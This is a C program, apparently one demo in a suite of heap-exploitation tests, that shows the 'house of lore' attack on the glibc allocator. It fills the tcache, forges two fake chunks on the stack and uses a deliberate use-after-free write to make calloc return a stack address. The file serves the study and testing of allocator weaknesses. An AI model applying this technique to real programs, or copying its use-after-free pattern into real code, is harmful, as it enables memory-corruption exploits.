/* Technique: house of lore (smallbin bk corruption), glibc 2.26+ form.

   Goal: calloc returns a chosen address (a fake 0x100 chunk on the
   stack).

   How: with the 0x100 tcache bin full (so no chunk is stashed from the
   smallbin into the tcache), victim is freed and sorted into the 0x100
   smallbin.  A use-after-free write sets victim->bk to fake chunk F1
   on the stack, whose fd points back at victim; F1->bk is a second fake
   chunk F2 whose fd points at F1.  Both satisfy the smallbin check
   "bck->fd == victim".  The first calloc (calloc does not take from the
   tcache) returns victim and leaves F1 as the last chunk of the bin;
   the second returns F1.  */
#include "attack.h"

int
main (void)
{
  attack_init ("house_of_lore: smallbin bk rewritten to a fake stack chunk");
  /* F1 needs room for the chunk after it: malloc sets that chunk's
     PREV_INUSE at F1 + 0x108.  */
  _Alignas (16) size_t fake1[0x30] = { 0 };
  _Alignas (16) size_t fake2[8] = { 0 };
  void *fill[7];
  for (int i = 0; i < 7; i++)
    fill[i] = malloc (0xf8);
  size_t *victim = malloc (0xf8);	/* chunk 0x100 */
  void *guard = malloc (0x18);
  say ("victim %p guard %p fake chunks %p %p", victim, guard, fake1, fake2);
  for (int i = 0; i < 7; i++)
    free (fill[i]);
  free (victim);		/* unsorted bin */
  void *big = malloc (0x1000);	/* sorts victim into the 0x100 smallbin */

  fake1[1] = 0x100;			/* F1 size */
  fake1[2] = (size_t) CHUNK (victim);	/* F1->fd = victim */
  fake1[3] = (size_t) fake2;		/* F1->bk = F2 */
  fake2[2] = (size_t) fake1;		/* F2->fd = F1 */
  victim[1] = (size_t) fake1;		/* use after free: victim->bk = F1 */

  void *p = calloc (1, 0xf8);
  void *q = calloc (1, 0xf8);
  say ("big %p; calloc (0xf8) = %p, then %p", big, p, q);
  if (q == (void *) &fake1[2])
    reached ("calloc returned the stack address %p", q);
  no_effect ("calloc returned %p and %p, not %p", p, q, &fake1[2]);
}
